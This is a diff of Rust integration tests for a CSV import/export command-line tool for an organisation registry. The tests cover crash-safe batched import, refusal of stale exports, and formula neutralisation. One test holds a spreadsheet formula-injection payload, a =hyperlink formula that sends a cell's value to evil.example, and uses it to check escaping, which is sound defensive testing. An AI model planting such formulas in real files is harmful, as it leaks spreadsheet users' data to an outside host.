@@ -128,8 +128,12 @@ async fn importing_the_same_file_twice_on_postgres_inserts_once_and_then_changes
     let file = env.file("more.csv", csv_rows(0..2500).as_bytes());
     let out = env.ok(&["import", "organizations", &file]).await;
     assert!(out.contains("inserted 2470, updated 0, unchanged 30"), "{out}");
+    // A hand-made file (no version column) changes an existing organisation only on purpose.
     let changed = csv_rows(0..2500).replacen("kaluga_city", "obninsk_city", 1);
-    let out = env.ok(&["import", "organizations", &env.file("changed.csv", changed.as_bytes())]).await;
+    let changed = env.file("changed.csv", changed.as_bytes());
+    let (refused, out) = env.run(&["import", "organizations", &changed]).await;
+    assert!(refused.is_err() && out.contains("строка 2, столбец version: нет версии"), "{out}");
+    let out = env.ok(&["import", "organizations", "--overwrite-newer", &changed]).await;
     assert!(out.contains("inserted 0, updated 1, unchanged 2499"), "{out}");
     assert_eq!(env.export().await.lines().count(), 2501);
 }
@@ -192,23 +196,189 @@ async fn a_dry_run_reports_but_writes_nothing() {
     assert_eq!(env.export().await.lines().count(), 1, "only the header");
 }
 
+/// A count read with a raw query (`SELECT CAST(COUNT(*) AS TEXT) ...`), as someone looking at the
+/// database would.
+async fn count(db: &storage::Database, sql: &str) -> usize {
+    storage::testing::query_strings(db, sql).await[0].parse().expect("a count")
+}
+
+const ORGANIZATIONS: &str = "SELECT CAST(COUNT(*) AS TEXT) FROM organizations";
+const IMPORT_BATCHES: &str =
+    "SELECT CAST(COUNT(*) AS TEXT) FROM audit_log WHERE action = 'organization.import' AND detail LIKE 'batch:%'";
+
 #[tokio::test]
-async fn an_import_killed_half_way_and_run_again_ends_like_one_clean_run() {
+async fn an_import_killed_after_its_first_batch_and_run_again_ends_like_one_clean_run() {
+    use std::os::unix::process::ExitStatusExt as _;
+    use std::process::{Command, Stdio};
+    use std::time::{Duration, Instant};
+
+    const ROWS: usize = 12_500;
+    let batch = cli::commands::import::BATCH;
     let crashed = Env::new().await;
+    let all = csv_rows(0..ROWS as u32);
+    let file = crashed.file("all.csv", all.as_bytes());
+    let db = storage::Database::connect(&crashed.url).await.unwrap();
+    let dir = crashed.dir.display().to_string();
+    let mut nko = Command::new(env!("CARGO_BIN_EXE_nko"))
+        .args(["--data-dir", &dir, "--database-url", &crashed.url, "--as", "admin", "import", "organizations", &file])
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .expect("start nko");
+    // Kill it as soon as anything is committed: its first batch.
+    let started = Instant::now();
+    let seen = loop {
+        let rows = count(&db, ORGANIZATIONS).await;
+        if rows > 0 {
+            nko.kill().expect("SIGKILL");
+            break rows;
+        }
+        assert!(nko.try_wait().unwrap().is_none(), "nko ended before a batch was committed");
+        assert!(started.elapsed() < Duration::from_secs(300), "no batch was committed in five minutes");
+        tokio::time::sleep(Duration::from_millis(2)).await;
+    };
+    let status = nko.wait().unwrap();
+    assert_eq!(status.signal(), Some(9), "nko was killed, it did not finish: {status:?}");
+
+    // Only whole batches are there, each with its audit row.
+    let left = count(&db, ORGANIZATIONS).await;
+    assert!(left >= seen.max(batch) && left < ROWS, "killed half-way: {left} of {ROWS} rows");
+    assert_eq!(left % batch, 0, "only whole batches of {batch}: {left} rows");
+    let batches = count(&db, IMPORT_BATCHES).await;
+    assert_eq!(batches, left / batch, "one audit row per committed batch");
+    db.close().await.unwrap();
+
+    // A re-run completes the import without duplicates, and ends like one clean run.
+    let rerun = crashed.ok(&["import", "organizations", &file]).await;
+    let expected = format!("inserted {}, updated 0, unchanged {left}, rejected 0", ROWS - left);
+    assert!(rerun.contains(&expected), "{rerun}");
     let clean = Env::new().await;
-    let all = csv_rows(0..2500);
-    // What a crash after the first two committed batches leaves behind: their rows.
-    let half: String = all.lines().take(2001).map(|l| format!("{l}\n")).collect();
-    crashed.ok(&["import", "organizations", &crashed.file("half.csv", half.as_bytes())]).await;
-    let rerun = crashed.ok(&["import", "organizations", &crashed.file("all.csv", all.as_bytes())]).await;
-    assert!(rerun.contains("inserted 500, updated 0, unchanged 2000"), "{rerun}");
     clean.ok(&["import", "organizations", &clean.file("all.csv", all.as_bytes())]).await;
     let sorted = |text: String| {
         let mut lines: Vec<String> = text.lines().map(str::to_owned).collect();
         lines.sort();
         lines
     };
-    assert_eq!(sorted(crashed.export().await), sorted(clean.export().await));
+    let crashed_export = sorted(crashed.export().await);
+    assert_eq!(crashed_export.len(), ROWS + 1, "no duplicates");
+    assert_eq!(crashed_export, sorted(clean.export().await));
+}
+
+/// Edits the organisation with the `n`-th sample ИНН through the registry's use case (as the API
+/// does): its version goes up by one. Returns the new municipality.
+async fn edit_through_the_use_case(env: &Env, n: u32) -> &'static str {
+    let settings = gateway::Settings {
+        data_dir: env.dir.clone(),
+        database_url: Some(env.url.clone()),
+        profile: None,
+        permissions: None,
+        audit_key_file: None,
+    };
+    let system = gateway::bootstrap::open_existing(&settings).await.unwrap();
+    let admin = access::actor_of(&system.services.access.operator("admin").await.unwrap(), kernel::Channel::Cli, "t");
+    let registry = &system.services.registry;
+    let page = registry
+        .organizations(
+            &admin,
+            &Default::default(),
+            registry::ports::OrganizationOrder::CreatedAsc,
+            kernel::PageRequest::new(100, None).unwrap(),
+        )
+        .await
+        .unwrap();
+    let org =
+        page.items.into_iter().find(|o| o.profile.inn.as_ref().is_some_and(|i| i.as_str() == inn_number(n))).unwrap();
+    let input = registry::input::OrganizationInput {
+        full_name: org.profile.full_name.to_string(),
+        legal_form: org.profile.legal_form.to_string(),
+        inn: org.profile.inn.as_ref().map(ToString::to_string),
+        ogrn: org.profile.ogrn.as_ref().map(ToString::to_string),
+        municipality: Some("borovsky".into()),
+        ..Default::default()
+    };
+    let edited = registry.update_organization(&admin, org.id, org.version, &input).await.unwrap();
+    assert_eq!(edited.version, org.version + 1);
+    "borovsky"
+}
+
+async fn check_an_old_export_does_not_undo_a_newer_edit(env: &Env) {
+    env.ok(&["import", "organizations", &env.file("orgs.csv", csv_rows(0..3).as_bytes())]).await;
+    let old_export = env.export().await;
+    let old_file = env.file("old-export.csv", old_export.as_bytes());
+    let line = 1 + old_export.lines().position(|l| l.contains(&inn_number(1))).unwrap();
+    let municipality = edit_through_the_use_case(env, 1).await;
+    let edited = env.export().await;
+    assert!(edited.contains(municipality));
+
+    let (refused, out) = env.run(&["import", "organizations", &old_file]).await;
+    assert!(refused.is_err(), "the import exits non-zero: {out}");
+    assert!(out.contains(&format!("строка {line}, столбец version: «1» — в реестре уже версия 2")), "{out}");
+    assert_eq!(out.lines().filter(|l| l.starts_with("строка")).count(), 1, "only the edited row: {out}");
+    assert_eq!(env.export().await, edited, "nothing was written, the edit is kept");
+
+    let out = env.ok(&["import", "organizations", "--overwrite-newer", &old_file]).await;
+    assert!(out.contains("inserted 0, updated 1, unchanged 2, rejected 0"), "{out}");
+    let now = env.export().await;
+    assert!(!now.contains(municipality), "the old values are back: {now}");
+    let audit = env.ok(&["audit", "list", "--action", "organization.import"]).await;
+    let overwrite = audit.lines().find(|l| l.contains("--overwrite-newer")).unwrap_or_else(|| panic!("{audit}"));
+    assert!(
+        overwrite.contains("1 overwritten") && overwrite.contains("version 1 in the file, 2 stored"),
+        "{overwrite}"
+    );
+}
+
+#[tokio::test]
+async fn importing_an_export_older_than_an_edit_is_refused_unless_overwriting_newer_is_asked_for() {
+    check_an_old_export_does_not_undo_a_newer_edit(&Env::new().await).await;
+}
+
+#[tokio::test]
+async fn importing_an_export_older_than_an_edit_on_postgres_is_refused_unless_overwriting_newer_is_asked_for() {
+    let Some(env) = Env::postgres(
+        "importing_an_export_older_than_an_edit_on_postgres_is_refused_unless_overwriting_newer_is_asked_for",
+    )
+    .await
+    else {
+        return;
+    };
+    check_an_old_export_does_not_undo_a_newer_edit(&env).await;
+}
+
+#[tokio::test]
+async fn formulas_in_e_mails_and_phones_are_neutralised_and_an_export_imports_back_to_the_same_values() {
+    let env = Env::new().await;
+    let hyperlink = r#"=hyperlink("http://evil.example/?"&c2&"@x.y";"обновить")"#;
+    let text = format!(
+        "full_name;legal_form;inn;emails;phones;legal_address\n\"''=1 Фонд\";fund;{};\"{}|-1+1@x.y\";+7 900 000-00-00;\"''@адрес\"\n",
+        inn_number(1),
+        hyperlink.replace('"', "\"\"")
+    );
+    env.ok(&["import", "organizations", &env.file("orgs.csv", text.as_bytes())]).await;
+    let export = env.export().await;
+    let mut reader = csv::Reader::from_reader(export.as_bytes());
+    for record in reader.records() {
+        for cell in &record.unwrap() {
+            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a cell starts a formula: {cell:?}");
+        }
+    }
+    assert!(export.contains("'+79000000000"), "{export}");
+    assert!(export.contains("\n''=1 Фонд,"), "a stored apostrophe gets one more: {export}");
+    // Importing the export changes nothing, and an export of the import is the same file.
+    let out = env.ok(&["import", "organizations", &env.file("export.csv", export.as_bytes())]).await;
+    assert!(out.contains("inserted 0, updated 0, unchanged 1"), "{out}");
+    let target = Env::new().await;
+    target.ok(&["import", "organizations", &target.file("export.csv", export.as_bytes())]).await;
+    assert_eq!(target.export().await, export);
+    let json = env.ok(&["export", "organizations", "--format", "json"]).await;
+    let parsed: serde_json::Value = serde_json::from_str(&json).unwrap();
+    let stored = format!("-1+1@x.y|{}", hyperlink.to_lowercase());
+    assert_eq!(parsed[0]["emails"], stored, "JSON carries the stored values");
+    assert_eq!(parsed[0]["full_name"], "'=1 Фонд", "the file's '' stands for one stored apostrophe");
+    assert_eq!(parsed[0]["legal_address"], "'@адрес");
+    let copied = target.ok(&["export", "organizations", "--format", "json"]).await;
+    assert_eq!(copied, json, "the stored values went through export and import unchanged");
+    assert!(export.contains(&format!("\"'{}\"", stored.replace('"', "\"\""))), "{export}");
 }
 
 #[tokio::test]
